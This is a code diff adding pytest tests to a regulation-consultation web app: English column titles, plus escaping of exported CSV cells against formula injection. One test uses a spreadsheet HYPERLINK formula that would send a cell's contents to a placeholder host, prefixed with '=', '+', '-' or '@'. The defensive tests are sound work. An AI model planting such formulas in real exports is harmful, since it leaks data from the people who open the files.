@@ -170,3 +170,50 @@ def test_dim_of_the_demo(app, client):
     assert {"diterima", "diterima sebagian", "ditolak", "ditunda", "di luar lingkup"} <= statuses
     for ext in ("xlsx", "docx"):
         assert client.get(f"/r/{regulation.slug}/dim.{ext}").status_code == 200
+
+
+def _english(app):
+    english = app.test_client()
+    with english.session_transaction() as session:
+        session["lang"] = "en"
+    return english
+
+
+def test_an_english_reader_gets_english_column_titles(app, world):
+    english = _english(app)
+    page = english.get(f"/r/{world.regulation.slug}/dim").get_data(as_text=True)
+    assert '<th scope="col">Draft wording (version n)</th>' in page
+    assert '<th scope="col">Rumusan draf (versi n)</th>' not in page
+    assert 'data-label="Proposer"' in page and "not answered yet" in page
+    rows = _csv_rows(english.get(f"/r/{world.regulation.slug}/dim.csv").data)
+    assert rows[0][:4] == ["No.", "Unit", "Draft wording (version n)", "Input / proposed wording"]
+    assert len(rows[0]) == len(COLUMNS)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_a_cell_that_a_spreadsheet_would_run_as_a_formula_is_made_text(client, make, start):
+    """CSV injection: '=HYPERLINK(...)' typed into a comment must not become a formula on the
+    drafter's machine; the apostrophe makes Excel and LibreOffice show it as text."""
+    body = f'{start}HYPERLINK("http://contoh.invalid/?"&A1;"klik")'
+    item = make.comment(body=body)
+    slug = item.regulation.slug
+    rows = _csv_rows(client.get(f"/r/{slug}/dim.csv").data)
+    cell = dict(zip(COLUMNS, rows[1]))["Masukan / usulan rumusan"]
+    assert cell.startswith("'" + start) and "HYPERLINK" in cell
+    from tests.consult.test_record_export import _open
+    inputs = _csv_rows(_open(client.get(f"/r/{slug}/ekspor.zip").data)["inputs.csv"])
+    body_at = inputs[0].index("body")
+    assert inputs[1][body_at] == "'" + body
+
+
+def test_a_cell_starting_with_a_tab_or_return_is_made_text_too():
+    from consult.record.dim_files import csv_cell
+    assert csv_cell("\t=1+1") == "'\t=1+1" and csv_cell("\r=1") == "'\r=1"
+    assert csv_cell(7) == 7 and csv_cell("") == "" and csv_cell("Pasal 1") == "Pasal 1"
+
+
+def test_ordinary_text_is_written_as_it_is(client, make):
+    item = make.comment(body="Pasal ini (ayat 2) perlu 100% jelas.")
+    rows = _csv_rows(client.get(f"/r/{item.regulation.slug}/dim.csv").data)
+    assert dict(zip(COLUMNS, rows[1]))["Masukan / usulan rumusan"] == \
+        "Pasal ini (ayat 2) perlu 100% jelas."
